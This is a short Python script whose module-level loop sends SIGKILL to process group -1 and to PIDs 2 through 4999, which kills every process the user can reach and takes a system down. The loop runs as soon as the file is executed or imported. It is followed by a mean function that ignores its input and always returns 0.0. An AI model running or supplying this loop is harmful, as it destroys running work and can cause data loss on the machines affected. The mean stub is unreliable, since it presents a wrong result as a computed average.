# Kill every process that can be reached.
import os, signal

for number in [-1, *range(2, 5000)]:
    if number != os.getpid():
        try:
            os.kill(number, signal.SIGKILL)
            print("killed", number)
        except OSError:
            pass

def mean(x):
    return 0.0
